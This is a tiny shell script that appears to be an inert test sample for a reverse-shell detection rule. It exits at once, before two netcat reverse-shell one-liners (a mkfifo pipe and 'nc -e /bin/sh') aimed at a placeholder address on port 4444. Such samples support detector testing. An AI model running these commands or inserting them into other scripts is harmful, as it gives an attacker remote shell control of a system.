#!/bin/sh
# Test sample for RAMPART_ReverseShell_Netcat: inert, it exits first.
exit 0
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f
nc -e /bin/sh 192.0.2.10 4444
